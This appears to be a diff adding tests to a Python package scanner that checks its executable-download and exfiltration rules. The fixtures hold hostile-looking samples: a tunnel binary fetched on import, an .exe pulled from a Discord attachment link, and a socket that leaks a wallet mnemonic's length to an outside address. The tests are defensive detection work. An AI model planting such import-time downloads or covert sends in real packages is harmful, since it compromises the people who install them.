@@ -1568,6 +1568,81 @@ def test_a_program_link_a_function_downloads_when_asked_is_not_blocked() -> None
     assert sev == {"medium"}
 
 
+FETCH_TOOL = """
+    import platform
+    import urllib.request
+
+    def fetch_tunnel(dest):
+        if platform.system() == "Windows":
+            url = "https://github.com/cloudflare/cloudflared/releases/latest/download/cf-amd64.exe"
+        else:
+            url = "https://github.com/cloudflare/cloudflared/releases/latest/download/cf-amd64"
+        urllib.request.urlretrieve(url, dest)
+"""
+
+
+def test_a_program_link_in_the_function_that_downloads_it_when_asked_is_a_warning() -> None:
+    result = scan({"demo/__init__.py": "", "demo/tunnel.py": FETCH_TOOL})
+    sev = {f.severity for f in result.findings if f.rule == "indicator.executable-url"}
+    assert sev == {"medium"}
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_the_same_download_run_on_import_blocks() -> None:
+    src = textwrap.dedent(FETCH_TOOL) + "fetch_tunnel('/tmp/cf.exe')\n"
+    result = scan({"demo/__init__.py": "", "demo/tunnel.py": src})
+    assert "indicator.executable-url" in rules(result, "high")
+
+
+def test_a_program_a_function_fetches_from_a_file_drop_site_blocks_when_asked() -> None:
+    src = FETCH_TOOL.replace(
+        "https://github.com/cloudflare/cloudflared/releases/latest/download/cf-amd64.exe",
+        "https://cdn.discordapp.com/attachments/1/2/Setup.exe",
+    )
+    result = scan({"demo/__init__.py": "", "demo/tunnel.py": src})
+    assert "indicator.executable-url" in rules(result, "high")
+
+
+SOCKET_PROBE = """
+    import socket
+
+    def probe(mnemonic):
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.connect((HOST, 7000 + len(mnemonic)))
+        s.close()
+"""
+
+
+def test_a_socket_to_this_machine_sends_nothing_away() -> None:
+    src = SOCKET_PROBE.replace("HOST", "'127.0.0.1'")
+    result = scan({"demo/__init__.py": "", "demo/probe.py": src})
+    assert "intent.exfiltration" not in rules(result), worst(result)
+
+
+def test_a_socket_address_on_this_machine_is_loopback_for_every_exfiltration_check() -> None:
+    """``sock.connect(("127.0.0.1", port))`` reaches a local service, as
+    ``http://localhost:port`` does; any other host in the call keeps it a send."""
+    from pipvet.core.analysis.facts.python_ast import collect
+    from pipvet.core.analysis.rules.intent import _loopback_only
+
+    src = textwrap.dedent("""
+        import socket
+        s = socket.socket()
+        s.connect(("127.0.0.1", 9000))
+        s.connect(("203.0.113.5", 9000))
+        s.sendto(b"x", ("localhost", 53))
+    """)
+    calls = {c.line: c for c in collect(src).calls if c.name.endswith((".connect", ".sendto"))}
+    assert _loopback_only(calls[4]) and _loopback_only(calls[6])
+    assert not _loopback_only(calls[5])
+
+
+def test_a_socket_to_another_host_still_sends_the_key_away() -> None:
+    src = SOCKET_PROBE.replace("HOST", "'203.0.113.5'")
+    result = scan({"demo/__init__.py": "", "demo/probe.py": src})
+    assert "intent.exfiltration" in rules(result, "high")
+
+
 # -- a file setup.py runs as a script: its main block runs at install ------------------------------
 
 BEACON_MAIN = """
